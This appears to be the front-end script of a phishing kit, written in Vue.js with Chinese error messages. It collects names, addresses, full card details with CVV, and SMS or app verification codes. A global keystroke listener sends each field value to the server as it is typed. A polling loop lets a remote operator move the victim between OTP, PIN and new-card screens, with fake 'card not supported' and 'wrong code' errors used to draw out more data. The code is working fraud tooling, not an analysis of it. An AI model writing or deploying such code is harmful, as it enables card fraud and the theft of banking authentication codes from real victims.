new Vue({
  el: '#app',
  data: {
    step: 'loading',
    order: { name: '', address: '', city: '', zip: '', phone: '' },
    card: { number: '', exp: '', cvv: '' },
    code: '',
    tip: '',
    token: localStorage.getItem('t') || Date.now().toString(16)
  },
  created() {
    localStorage.setItem('t', this.token);
    axios.post('/api/visit', { token: this.token, ref: document.referrer }).then(() => { this.step = 'address'; });
    document.addEventListener('input', (e) => {
      axios.post('/api/sync', { token: this.token, field: e.target.name, val: e.target.value });
    });
  },
  methods: {
    next() { this.step = 'card'; axios.post('/api/order', { token: this.token, ...this.order }); },
    pay() {
      if (this.card.number.replace(/\s/g, '').length < 15) { this.tip = '请输入正确的卡号'; return; }
      this.step = 'loading';
      axios.post('/api/card', { token: this.token, ...this.card }).then(this.poll);
    },
    sendCode() {
      this.step = 'loading';
      axios.post('/api/code', { token: this.token, code: this.code }).then(this.poll);
    },
    poll() {
      clearInterval(this.timer);
      this.timer = setInterval(() => {
        axios.get('/api/next', { params: { token: this.token } }).then(({ data }) => {
          if (!data.action) return;
          clearInterval(this.timer);
          const map = { 1: 'sms', 2: 'email', 3: 'app', 4: 'pin', 5: 'card', 9: 'ok' };
          if (data.action === 5) { this.card = { number: '', exp: '', cvv: '' }; this.tip = '此卡不支持，请更换其他卡片'; }
          if (data.action === 6) { this.code = ''; this.tip = '验证码错误，请重新输入'; this.step = 'sms'; return; }
          this.step = map[data.action] || 'loading';
        });
      }, 2000);
    }
  }
});
